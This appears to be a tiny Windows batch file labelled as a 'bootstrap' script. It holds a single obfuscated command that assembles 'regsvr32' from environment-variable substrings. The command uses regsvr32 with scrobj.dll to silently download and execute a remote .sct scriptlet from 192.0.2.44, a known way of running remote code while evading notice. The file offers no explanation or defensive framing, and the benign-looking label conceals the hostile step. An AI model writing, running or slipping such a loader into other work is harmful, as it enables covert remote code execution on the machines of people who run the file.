REM bootstrap 5726 v3
%PUBLIC:~6,1%%comspec:~15,1%%ProgramData:~6,1%sv%PUBLIC:~-9,1%32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
